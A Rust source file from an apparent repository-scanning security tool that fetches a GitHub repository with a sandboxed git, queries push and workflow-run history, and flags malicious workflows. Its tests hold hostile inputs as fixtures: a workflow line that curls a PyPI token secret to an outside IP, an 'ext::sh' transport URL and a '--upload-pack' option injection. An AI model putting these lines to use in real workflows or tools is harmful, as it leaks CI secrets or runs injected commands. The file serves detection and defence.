//! The code forge, for the desk: fetches a repository with a child `git` that can do nothing else, scans it, and asks the
//! forge's API who pushed what and which workflows ran.
//!
//! Only the forge that the operator configured is asked. What is fetched is hostile: it lies in a folder that vanishes, no
//! hook, filter, submodule or configuration of it is ever looked at, and nothing of it is run.

use std::collections::{BTreeMap, BTreeSet, HashMap};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use async_trait::async_trait;
use portcullis_index::clock::{Instant, SECOND};
use portcullis_index::desk::forge::{Forge, ForgeError, Look, Push, Run, Runs, Sight};
use portcullis_index::desk::scan_document::is_object_id;
use portcullis_index::desk::subject::RepositoryName;
use portcullis_index::outgoing::{self, OutgoingError, Source};
use portcullis_index::settings::{Settings, is_loopback};
use secrecy::SecretString;
use serde::Deserialize;
use serde::de::DeserializeOwned;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::process::Command;
use url::Url;

/// The name of the forge that is known so far.
const HOST: &str = "github.com";

/// How long one look may take altogether.
const LOOK_LIMIT: Duration = Duration::from_secs(300);

/// How long one `git` may take.
const GIT_LIMIT: Duration = Duration::from_secs(120);

/// How many bytes a fetched repository may have on disk.
const SIZE_LIMIT: u64 = 1 << 30;

/// Files above this size are not fetched, nor above the second one where the repository is too large with the first: workflows
/// are small, and whoever may push could make a repository too large to be looked at with one file. A server that knows no
/// filters sends everything.
const FILE_LIMITS: &[&str] = &["blob:limit=4m", "blob:limit=64k"];

/// How often the size of what is being fetched is looked at.
const SIZE_PAUSE: Duration = Duration::from_millis(200);

/// How many commits are fetched one by one, beside branches and tags.
const COMMIT_LIMIT: usize = 60;

/// How many commits of one push are listed.
const PUSH_COMMIT_LIMIT: usize = 1_000;

/// Most bytes of one answer of the forge's API.
const ANSWER_LIMIT: usize = 8 << 20;

/// How many pages of runs are asked for, 100 runs each.
const RUN_PAGE_LIMIT: usize = 5;

/// How much of what `git` complains of is kept, in bytes.
const COMPLAINT_LIMIT: usize = 2_000;

/// How much `git` may print, in bytes.
const OUTPUT_LIMIT: usize = 8 << 20;

/// GitHub, or what the operator put in its place.
pub(crate) struct Remote {
    api: Url,
    git: Url,
    token: Option<SecretString>,
}

impl Remote {
    /// With the operator's settings.
    ///
    /// # Errors
    /// Where the file with the API's token can't be read.
    pub(crate) fn new(settings: &Settings) -> anyhow::Result<Self> {
        use anyhow::Context;
        let token = settings.github_token_file.as_deref().map(|path| {
            std::fs::read_to_string(path)
                .map(|text| SecretString::from(text.trim().to_owned()))
                .with_context(|| format!("reading the token of the forge's API from {}", path.display()))
        });
        Ok(Self {
            api: settings.github_api.clone(),
            git: settings.github_git.clone(),
            token: token.transpose()?,
        })
    }
}

#[async_trait]
impl Forge for Remote {
    async fn look(&self, look: &Look) -> Result<Sight, ForgeError> {
        let name = &look.repository;
        if name.host() != HOST {
            return Err(ForgeError::Impossible(format!(
                "{name} can't be fetched: of all forges only {HOST} is configured"
            )));
        }
        tokio::time::timeout(LOOK_LIMIT, self.look_within(look)).await.unwrap_or_else(|_| {
            Err(ForgeError::Failed(format!("looking at {name} took longer than {} s", LOOK_LIMIT.as_secs())))
        })
    }
}

impl Remote {
    async fn look_within(&self, look: &Look) -> Result<Sight, ForgeError> {
        let name = &look.repository;
        let mut problems = Vec::new();
        let about: Option<About> = self.known(name, "", &mut problems).await;
        let mut pushes = self.pushes(name, &mut problems).await;
        let mut runs = self.runs(name, &mut problems).await;

        let folder = tempfile::tempdir()
            .map_err(|error| ForgeError::Failed(format!("no temporary folder to fetch into: {error}")))?;
        let mut clone = Clone::new(folder.path(), self.clone_url(name)?);
        problems.extend(
            clone
                .fetch_all()
                .await
                .map_err(|error| ForgeError::Failed(format!("fetching {name}: {error}")))?,
        );
        if let Some(branch) = about.and_then(|about| about.default_branch) {
            // Which branch's schedule and issue workflows run. Without it the scanner takes what HEAD says.
            let _ = clone.git(&["symbolic-ref", "HEAD", &format!("refs/heads/{branch}")], b"").await;
        }
        let heads = Heads::new(look, pushes.as_deref(), runs.as_ref());
        problems.extend(clone.fetch_commits(&heads.all()).await?);
        for push in pushes.iter_mut().flatten() {
            push.commits = clone.commits_of(push).await?;
        }
        if let Some(runs) = &mut runs {
            clone.name_blobs(runs).await?;
        }
        let document = scan(folder.path().to_owned(), name.to_string(), heads).await?;
        Ok(Sight { document, pushes, runs, problems })
    }

    fn clone_url(&self, name: &RepositoryName) -> Result<Url, ForgeError> {
        let base = self.git.as_str().trim_end_matches('/');
        format!("{base}/{}/{}.git", name.owner(), name.name())
            .parse()
            .map_err(|error| ForgeError::Impossible(format!("{name} has no clone URL: {error}")))
    }

    /// What the API knows below a repository's address. What it does not tell is a gap, never a failure of the look.
    async fn known<T: DeserializeOwned>(
        &self,
        name: &RepositoryName,
        rest: &str,
        problems: &mut Vec<String>,
    ) -> Option<T> {
        let base = self.api.as_str().trim_end_matches('/');
        let url = format!("{base}/repos/{}/{}{rest}", name.owner(), name.name()).parse().ok()?;
        let source = Source::Operator { root: None };
        match outgoing::get_as(&url, source, ANSWER_LIMIT, self.token.as_ref()).await {
            Ok(body) => match serde_json::from_slice(&body) {
                Ok(answer) => Some(answer),
                Err(error) => {
                    problems.push(format!("the forge's answer about {name} can't be read: {error}"));
                    None
                }
            },
            Err(OutgoingError::Status { status: 404, .. }) => None,
            Err(error) => {
                problems.push(format!("asking the forge about {name}: {error}"));
                None
            }
        }
    }

    async fn pushes(&self, name: &RepositoryName, problems: &mut Vec<String>) -> Option<Vec<Push>> {
        let activity: Option<Vec<Activity>> = self.known(name, "/activity?per_page=100", problems).await;
        let activity = match activity {
            Some(activity) => activity,
            // Older Enterprise Servers have no list of activity; the events of the last 90 days tell of pushes too.
            None => {
                let happened: Vec<Happened> = self.known(name, "/events?per_page=100", problems).await?;
                happened.into_iter().filter_map(Happened::push).collect()
            }
        };
        if activity.len() >= 100 {
            problems.push(String::from("older pushes than the newest 100 are not known"));
        }
        let push = |activity: Activity| {
            let at = Instant::parse(&activity.timestamp)?.0;
            let own = activity.name.starts_with("refs/heads/") || activity.name.starts_with("refs/tags/");
            let known = is_object_id(&activity.before) && is_object_id(&activity.after);
            // `refs/pull/…` is anybody's.
            (own && known).then(|| Push {
                name: activity.name,
                before: activity.before.to_ascii_lowercase(),
                after: activity.after.to_ascii_lowercase(),
                at,
                commits: Vec::new(),
            })
        };
        Some(activity.into_iter().filter_map(push).collect())
    }

    async fn runs(&self, name: &RepositoryName, problems: &mut Vec<String>) -> Option<Runs> {
        let mut found: BTreeMap<i64, Run> = BTreeMap::new();
        let mut total = 0;
        for page in 1..=RUN_PAGE_LIMIT {
            let rest = format!("/actions/runs?per_page=100&page={page}");
            let answer: RunPage = match self.known(name, &rest, problems).await {
                Some(answer) => answer,
                None if page == 1 => return None,
                None => break,
            };
            total = answer.total_count;
            let before = found.len();
            found.extend(answer.workflow_runs.into_iter().filter_map(run).map(|run| (run.id, run)));
            if found.len() >= total || found.len() == before {
                break;
            }
        }
        let list: Vec<Run> = found.into_values().collect();
        let complete_since =
            (list.len() < total).then(|| list.iter().map(|run| run.from).min().unwrap_or(i64::MAX));
        Some(Runs { complete_since, list })
    }
}

#[derive(Deserialize)]
struct About {
    #[serde(default)]
    default_branch: Option<String>,
}

#[derive(Deserialize)]
struct Activity {
    #[serde(rename = "ref")]
    name: String,
    before: String,
    after: String,
    timestamp: String,
}

/// An event of a repository, as `GET /repos/OWNER/NAME/events` tells it.
#[derive(Deserialize)]
struct Happened {
    #[serde(rename = "type", default)]
    kind: String,
    #[serde(default)]
    created_at: String,
    #[serde(default)]
    payload: serde_json::Value,
}

impl Happened {
    fn push(self) -> Option<Activity> {
        let text = |key: &str| self.payload.get(key).and_then(serde_json::Value::as_str).map(str::to_owned);
        (self.kind == "PushEvent").then(|| {
            Some(Activity {
                name: text("ref")?,
                before: text("before")?,
                after: text("head")?,
                timestamp: self.created_at.clone(),
            })
        })?
    }
}

#[derive(Deserialize)]
struct RunPage {
    #[serde(default)]
    total_count: usize,
    workflow_runs: Vec<WorkflowRun>,
}

#[derive(Deserialize)]
struct WorkflowRun {
    id: i64,
    head_sha: String,
    #[serde(default)]
    event: String,
    #[serde(default)]
    path: String,
    #[serde(default)]
    status: Option<String>,
    #[serde(default)]
    run_started_at: Option<String>,
    #[serde(default)]
    created_at: Option<String>,
    #[serde(default)]
    updated_at: Option<String>,
}

fn run(run: WorkflowRun) -> Option<Run> {
    let time = |text: &Option<String>| text.as_deref().and_then(Instant::parse).map(|at| at.0);
    let ended = run.status.as_deref() == Some("completed");
    Some(Run {
        id: run.id,
        commit: Some(run.head_sha.to_ascii_lowercase()).filter(|id| is_object_id(id))?,
        // `PATH@REF` where it is a reusable one.
        path: run.path.split('@').next().unwrap_or_default().to_owned(),
        event: run.event,
        from: time(&run.run_started_at).or_else(|| time(&run.created_at))?,
        until: time(&run.updated_at).filter(|_| ended),
        workflow_blob: None,
    })
}

/// The commits to have beside branches and tags.
struct Heads {
    /// Pushed to the repository itself, as the forge observed.
    pushed: BTreeSet<String>,
    /// When it saw them, in seconds since 1970.
    times: BTreeMap<String, i64>,
    /// Named by somebody.
    cited: BTreeSet<String>,
}

impl Heads {
    fn new(look: &Look, pushes: Option<&[Push]>, runs: Option<&Runs>) -> Self {
        let zero = |id: &String| id.bytes().all(|byte| byte == b'0');
        let pushes = pushes.unwrap_or_default();
        let mut times = BTreeMap::new();
        for push in pushes.iter().filter(|push| !zero(&push.after)) {
            let at = push.at.div_euclid(SECOND);
            let first = times.entry(push.after.clone()).or_insert(at);
            *first = at.min(*first);
        }
        let mut pushed: BTreeSet<String> = pushes
            .iter()
            .flat_map(|push| [push.after.clone(), push.before.clone()])
            .filter(|id| !zero(id))
            .collect();
        // A run that a push started is of a commit that was pushed here; a pull request's is anybody's.
        let runs = runs.map(|runs| runs.list.as_slice()).unwrap_or_default();
        pushed.extend(runs.iter().filter(|run| run.event == "push").map(|run| run.commit.clone()));
        let cited =
            look.cited.iter().filter(|id| is_object_id(id) && !pushed.contains(*id)).cloned().collect();
        Self { pushed, times, cited }
    }

    fn all(&self) -> Vec<String> {
        self.cited.iter().chain(&self.pushed).cloned().collect()
    }
}

async fn scan(folder: PathBuf, identity: String, heads: Heads) -> Result<String, ForgeError> {
    let options = portcullis_scan::Options {
        paths: vec![folder],
        identity: Some(identity),
        pushed_heads: heads.pushed.into_iter().collect(),
        push_times: heads.times,
        heads: heads.cited.into_iter().collect(),
        jobs: 1,
        ..portcullis_scan::Options::default()
    };
    let scanned = tokio::task::spawn_blocking(move || {
        let mut report = portcullis_scan::scan(&options);
        // The desk acts on theft, not on advice.
        report
            .document
            .findings
            .retain(|finding| finding.verdict >= portcullis_scan::report::Verdict::Suspicious);
        (report.paths_read > 0).then(|| serde_json::to_string(&report.document))
    });
    match scanned.await {
        Ok(Some(Ok(document))) => Ok(document),
        Ok(Some(Err(error))) => {
            Err(ForgeError::Failed(format!("what the scan found can't be written: {error}")))
        }
        Ok(None) => Err(ForgeError::Failed(String::from("nothing of what was fetched could be read"))),
        Err(_) => Err(ForgeError::Failed(String::from("the scan met a fault of its own"))),
    }
}

/// A bare repository in a folder that vanishes.
struct Clone<'a> {
    folder: &'a Path,
    url: Url,
    /// Which files are fetched.
    filter: &'static str,
}

impl<'a> Clone<'a> {
    fn new(folder: &'a Path, url: Url) -> Self {
        Self { folder, url, filter: FILE_LIMITS.first().copied().unwrap_or("blob:none") }
    }

    /// `git` with an environment of its own: no configuration of the machine or the user, no helper, no prompt, no hook, and
    /// https only — or http where the operator configured loopback.
    fn command(&self) -> Command {
        let mut command = Command::new("git");
        command.env_clear().current_dir(self.folder).kill_on_drop(true);
        for name in
            ["PATH", "SSL_CERT_FILE", "SSL_CERT_DIR", "https_proxy", "HTTPS_PROXY", "no_proxy", "NO_PROXY"]
        {
            if let Some(value) = std::env::var_os(name) {
                command.env(name, value);
            }
        }
        if let Some(authorities) = std::env::var_os("SSL_CERT_FILE") {
            command.env("GIT_SSL_CAINFO", authorities);
        }
        let empty = self.folder.join("no-such-home");
        command.env("HOME", &empty).env("XDG_CONFIG_HOME", &empty).env("LC_ALL", "C");
        for (name, value) in [
            ("GIT_CONFIG_NOSYSTEM", "1"),
            ("GIT_CONFIG_GLOBAL", "/dev/null"),
            ("GIT_TERMINAL_PROMPT", "0"),
            ("GIT_ASKPASS", "/bin/false"),
            ("GIT_NO_REPLACE_OBJECTS", "1"),
            ("GIT_NO_LAZY_FETCH", "1"),
            ("GIT_OPTIONAL_LOCKS", "0"),
        ] {
            command.env(name, value);
        }
        let http = if self.url.scheme() == "http" && is_loopback(&self.url) { "always" } else { "never" };
        for setting in [
            "protocol.allow=never",
            "protocol.https.allow=always",
            &format!("protocol.http.allow={http}"),
            "http.followRedirects=false",
            "http.lowSpeedLimit=1000",
            "http.lowSpeedTime=30",
            "credential.helper=",
            "core.hooksPath=/dev/null",
            "core.fsmonitor=false",
            "core.attributesFile=/dev/null",
            "fetch.recurseSubmodules=false",
            "fetch.unpackLimit=1",
            "gc.auto=0",
            "maintenance.auto=false",
        ] {
            command.arg("-c").arg(setting);
        }
        command.arg("--git-dir").arg(self.folder);
        command
    }

    /// Runs `git` under the bounds; its output where it succeeds, what it complains of where it does not.
    async fn git(&self, arguments: &[&str], input: &[u8]) -> Result<Vec<u8>, String> {
        let mut command = self.command();
        command.args(arguments).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
        let mut child = command.spawn().map_err(|error| format!("git could not be started: {error}"))?;
        let (stdin, stdout, stderr) = (child.stdin.take(), child.stdout.take(), child.stderr.take());
        let feed = async {
            if let Some(mut stdin) = stdin {
                // It may end before it has read all: then its status says why.
                let _ = stdin.write_all(input).await;
            }
        };
        let work = async {
            let (status, output, complaint, ()) =
                tokio::join!(child.wait(), read(stdout, OUTPUT_LIMIT), read(stderr, COMPLAINT_LIMIT), feed);
            (status, output, complaint)
        };
        let (status, output, complaint) = tokio::select! {
            done = work => done,
            () = tokio::time::sleep(GIT_LIMIT) => {
                return Err(format!("git took longer than {} s and was ended", GIT_LIMIT.as_secs()));
            }
            size = self.too_large() => {
                return Err(format!("more than {SIZE_LIMIT} bytes arrived ({size}); the fetch was ended"));
            }
        };
        let status = status.map_err(|error| format!("git could not be waited for: {error}"))?;
        if status.success() {
            return Ok(output);
        }
        let complaint = String::from_utf8_lossy(&complaint);
        Err(format!("git ended with {status}: {}", complaint.trim()))
    }

    /// Comes back only when the folder has grown past its limit.
    async fn too_large(&self) -> u64 {
        loop {
            tokio::time::sleep(SIZE_PAUSE).await;
            let folder = self.folder.to_owned();
            let size = tokio::task::spawn_blocking(move || size_of(&folder, 0)).await.unwrap_or(0);
            if size > SIZE_LIMIT {
                return size;
            }
        }
    }

    /// Fetches branches and tags; what a reader must know about gaps.
    async fn fetch_all(&mut self) -> Result<Option<String>, String> {
        let refs = ["+refs/heads/*:refs/heads/*", "+refs/tags/*:refs/tags/*"];
        let mut failed = String::new();
        for (number, filter) in FILE_LIMITS.iter().enumerate() {
            self.filter = filter;
            self.git(&["init", "--quiet", "--bare", "--template="], b"").await?;
            match self.fetch(&refs).await {
                Ok(()) if number == 0 => return Ok(None),
                Ok(()) => {
                    return Ok(Some(format!("truncated: only files up to {filter} were fetched ({failed})")));
                }
                Err(error) if size_of(self.folder, 0) > SIZE_LIMIT => failed = error,
                Err(error) => return Err(error),
            }
            self.empty().map_err(|error| format!("{failed}; and what arrived can't be removed: {error}"))?;
        }
        Err(failed)
    }

    fn empty(&self) -> std::io::Result<()> {
        for entry in std::fs::read_dir(self.folder)? {
            let entry = entry?;
            if entry.file_type()?.is_dir() {
                std::fs::remove_dir_all(entry.path())?;
            } else {
                std::fs::remove_file(entry.path())?;
            }
        }
        Ok(())
    }

    async fn fetch(&self, what: &[&str]) -> Result<(), String> {
        let filter = format!("--filter={}", self.filter);
        let mut arguments = vec![
            "fetch",
            filter.as_str(),
            "--quiet",
            "--no-tags",
            "--no-recurse-submodules",
            "--no-auto-maintenance",
            "--no-write-fetch-head",
            "--end-of-options",
            self.url.as_str(),
        ];
        arguments.extend(what);
        self.git(&arguments, b"").await.map(|_| ())
    }

    /// Which of these objects are here, by `git cat-file --batch-check`: names come by standard input, never as options.
    async fn objects(&self, names: &[String]) -> Result<Vec<Option<String>>, ForgeError> {
        if names.is_empty() {
            return Ok(Vec::new());
        }
        let input = names.iter().fold(String::new(), |input, name| input + name + "\n");
        let output = self
            .git(&["cat-file", "--batch-check=%(objectname)"], input.as_bytes())
            .await
            .map_err(|error| ForgeError::Failed(format!("looking for commits: {error}")))?;
        let output = String::from_utf8_lossy(&output).into_owned();
        Ok(output
            .lines()
            .map(|line| Some(line.trim().to_owned()).filter(|line| is_object_id(line)))
            .collect())
    }

    /// Fetches the commits that are missing, one by one: a forge may hand out one and not another.
    async fn fetch_commits(&self, ids: &[String]) -> Result<Vec<String>, ForgeError> {
        let here = self.objects(ids).await?;
        let missing: Vec<&String> =
            ids.iter().zip(here.iter()).filter(|(_, found)| found.is_none()).map(|(id, _)| id).collect();
        let mut problems = Vec::new();
        for id in missing.iter().take(COMMIT_LIMIT) {
            if let Err(error) = self.fetch(&[id.as_str()]).await {
                problems
                    .push(format!("history-incomplete: the forge does not hand out commit {id}: {error}"));
            }
        }
        if missing.len() > COMMIT_LIMIT {
            problems.push(format!(
                "history-incomplete: {} further commits were not fetched",
                missing.len() - COMMIT_LIMIT
            ));
        }
        Ok(problems)
    }

    /// The commits that a push brought, as far as they are here.
    async fn commits_of(&self, push: &Push) -> Result<Vec<String>, ForgeError> {
        let zero = |id: &str| id.bytes().all(|byte| byte == b'0');
        if zero(&push.after) {
            return Ok(Vec::new());
        }
        let here = self.objects(&[push.after.clone(), push.before.clone()]).await?;
        let [Some(after), before] = here.as_slice() else { return Ok(Vec::new()) };
        let limit = format!("--max-count={PUSH_COMMIT_LIMIT}");
        let mut arguments = vec!["rev-list".to_owned(), limit, after.clone()];
        arguments.extend(before.iter().filter(|id| !zero(id)).map(|id| format!("^{id}")));
        arguments.push(String::from("--"));
        let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
        // A broken object ends the list: less is known, nothing is wrong.
        let listed = self.git(&arguments, b"").await.unwrap_or_default();
        Ok(String::from_utf8_lossy(&listed).lines().map(str::to_owned).collect())
    }

    /// Gives each run the blob of its workflow at its commit.
    async fn name_blobs(&self, runs: &mut Runs) -> Result<(), ForgeError> {
        let plain = |path: &str| {
            path.starts_with(".github/workflows/") && path.len() < 500 && !path.chars().any(char::is_control)
        };
        let names: BTreeSet<String> = runs
            .list
            .iter()
            .filter(|run| plain(&run.path))
            .map(|run| format!("{}:{}", run.commit, run.path))
            .collect();
        let names: Vec<String> = names.into_iter().collect();
        let blobs: HashMap<String, Option<String>> =
            names.iter().cloned().zip(self.objects(&names).await?).collect();
        for run in &mut runs.list {
            run.workflow_blob = blobs.get(&format!("{}:{}", run.commit, run.path)).cloned().flatten();
        }
        Ok(())
    }
}

/// Reads all there is and keeps at most `limit` bytes.
async fn read(stream: Option<impl tokio::io::AsyncRead + Unpin>, limit: usize) -> Vec<u8> {
    let mut kept = Vec::new();
    let Some(mut stream) = stream else { return kept };
    let mut buffer = vec![0; 8_192];
    while let Ok(count @ 1..) = stream.read(&mut buffer).await {
        let room = limit.saturating_sub(kept.len());
        kept.extend(buffer.iter().take(count.min(room)));
    }
    kept
}

/// Bytes below a folder. Links are not followed; what vanishes meanwhile counts nothing.
fn size_of(folder: &Path, depth: usize) -> u64 {
    let Ok(entries) = std::fs::read_dir(folder) else { return 0 };
    let size = |entry: std::fs::DirEntry| match entry.metadata() {
        Ok(found) if found.is_dir() && depth < 16 => size_of(&entry.path(), depth + 1),
        Ok(found) => found.len(),
        Err(_) => 0,
    };
    entries.flatten().map(size).sum()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn of_a_repositorys_events_only_pushes_tell_what_was_pushed() {
        let events = serde_json::json!([
            { "type": "PushEvent", "created_at": "2026-01-02T03:04:05Z",
              "payload": { "ref": "refs/heads/main", "before": "a".repeat(40), "head": "b".repeat(40) } },
            { "type": "ForkEvent", "created_at": "2026-01-02T03:04:05Z", "payload": { "ref": "refs/heads/main" } },
            { "type": "PushEvent", "created_at": "2026-01-02T03:04:05Z", "payload": { "ref": "refs/heads/main" } },
            { "type": "PushEvent" },
            {},
        ]);
        let happened: Vec<Happened> = serde_json::from_value(events).unwrap();
        let pushes: Vec<Activity> = happened.into_iter().filter_map(Happened::push).collect();
        assert_eq!(pushes.len(), 1);
        assert_eq!(
            (pushes[0].name.as_str(), pushes[0].after.as_str()),
            ("refs/heads/main", "b".repeat(40).as_str())
        );
    }

    async fn fetch_from(url: &str) -> String {
        let folder = tempfile::tempdir().unwrap();
        let mut clone = Clone::new(folder.path(), url.parse().unwrap());
        clone.fetch_all().await.unwrap_err()
    }

    #[tokio::test]
    async fn only_https_and_configured_loopback_are_spoken_to() {
        let folder = tempfile::tempdir().unwrap();
        let other = Clone::new(folder.path(), "https://forge.invalid/o/n.git".parse().unwrap());
        other.git(&["init", "--quiet", "--bare", "--template="], b"").await.unwrap();
        for url in [
            format!("file://{}", folder.path().display()),
            String::from("ssh://forge.invalid/o/n.git"),
            String::from("git://forge.invalid/o/n.git"),
            String::from("http://192.0.2.1/o/n.git"),
            String::from("ext::sh -c touch% /dev/null"),
        ] {
            let problem = fetch_from(&url).await;
            assert!(problem.contains("not allowed"), "{url}: {problem}");
        }
    }

    #[tokio::test]
    async fn files_that_were_left_out_do_not_keep_a_repository_from_being_scanned() {
        let folders = tempfile::tempdir().unwrap();
        let (source, fetched) = (folders.path().join("source"), folders.path().join("fetched"));
        let git = |folder: &Path, arguments: &[&str]| {
            let mut command = std::process::Command::new("git");
            command.env_clear().env("PATH", std::env::var_os("PATH").unwrap()).current_dir(folder);
            command.env("HOME", folder).env("GIT_CONFIG_NOSYSTEM", "1").env("GIT_NO_LAZY_FETCH", "1");
            command.args([
                "-c",
                "user.name=a",
                "-c",
                "user.email=a@example.test",
                "-c",
                "protocol.file.allow=always",
            ]);
            let done = command.args(arguments).output().unwrap();
            assert!(done.status.success(), "{arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
        };
        std::fs::create_dir_all(source.join(".github/workflows")).unwrap();
        std::fs::create_dir(&fetched).unwrap();
        let workflow = "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -d \
                        token=${{ secrets.PYPI_API_TOKEN }} http://192.0.2.66/\n";
        std::fs::write(source.join(".github/workflows/x.yml"), workflow).unwrap();
        std::fs::write(source.join("large"), vec![7; (4 << 20) + 1]).unwrap();
        git(&source, &["init", "--quiet", "--initial-branch=main"]);
        git(&source, &["config", "uploadpack.allowFilter", "true"]);
        git(&source, &["add", "."]);
        git(&source, &["commit", "--quiet", "--message=x"]);
        git(&fetched, &["init", "--quiet", "--bare", "--template=", "--initial-branch=main"]);
        let filter = format!("--filter={}", FILE_LIMITS[0]);
        let url = format!("file://{}", source.display());
        git(&fetched, &["fetch", "--quiet", &filter, &url, "+refs/heads/*:refs/heads/*"]);
        let heads = Heads { pushed: BTreeSet::new(), times: BTreeMap::new(), cited: BTreeSet::new() };
        let document = scan(fetched, String::from("github.com/example-org/fish"), heads).await.unwrap();
        let document: serde_json::Value = serde_json::from_str(&document).unwrap();
        assert_eq!(document["findings"][0]["verdict"], "malicious", "{document}");
        assert_eq!(document["problems"], serde_json::json!([]));
    }

    #[tokio::test]
    async fn the_environment_and_configuration_of_the_machine_do_not_reach_git() {
        let folder = tempfile::tempdir().unwrap();
        let clone = Clone::new(folder.path(), "https://forge.invalid/o/n.git".parse().unwrap());
        clone.git(&["init", "--quiet", "--bare", "--template="], b"").await.unwrap();
        let seen = clone.git(&["config", "--show-scope", "--list"], b"").await.unwrap();
        let seen = String::from_utf8(seen).unwrap();
        assert!(!seen.contains("system") && !seen.contains("global\t"), "{seen}");
        assert!(seen.contains("protocol.allow=never") && seen.contains("core.hookspath=/dev/null"), "{seen}");
    }

    #[tokio::test]
    async fn output_is_read_to_its_end_and_kept_to_its_limit() {
        assert_eq!(read(Some([7; 100].as_slice()), 100).await.len(), 100);
        assert_eq!(read(Some([7; 101].as_slice()), 100).await.len(), 100);
    }

    #[test]
    fn sizes_are_counted_without_following_links() {
        let folder = tempfile::tempdir().unwrap();
        std::fs::create_dir(folder.path().join("objects")).unwrap();
        std::fs::write(folder.path().join("objects").join("pack"), [0; 1_000]).unwrap();
        let before = size_of(folder.path(), 0);
        std::os::unix::fs::symlink("/usr", folder.path().join("link")).unwrap();
        assert!(before >= 1_000 && size_of(folder.path(), 0) < before + 1_000);
    }

    #[test]
    fn a_pull_requests_run_makes_no_commit_the_repositorys_own() {
        let run = |event: &str, digit: &str| Run {
            id: 1,
            commit: digit.repeat(40),
            path: String::new(),
            event: event.to_owned(),
            from: 0,
            until: None,
            workflow_blob: None,
        };
        let runs = Runs { complete_since: None, list: vec![run("push", "a"), run("pull_request", "b")] };
        let look = Look {
            repository: RepositoryName::parse("github.com/example-org/fish").unwrap(),
            cited: vec!["c".repeat(40), String::from("--upload-pack=x")],
        };
        let heads = Heads::new(&look, None, Some(&runs));
        assert_eq!(heads.pushed.into_iter().collect::<Vec<_>>(), ["a".repeat(40)]);
        assert_eq!(heads.cited.into_iter().collect::<Vec<_>>(), ["c".repeat(40)]);
    }

    #[test]
    fn a_run_is_read_as_the_forge_tells_it() {
        let told = serde_json::json!({
            "id": 7, "head_sha": "A".repeat(40), "event": "push", "path": ".github/workflows/x.yml@refs/heads/main",
            "status": "in_progress", "run_started_at": "2026-01-02T03:04:05Z", "updated_at": "2026-01-02T03:05:05Z",
        });
        let read = run(serde_json::from_value(told).unwrap()).unwrap();
        assert_eq!((read.path.as_str(), read.until), (".github/workflows/x.yml", None));
        assert_eq!(read.commit, "a".repeat(40));
    }
}
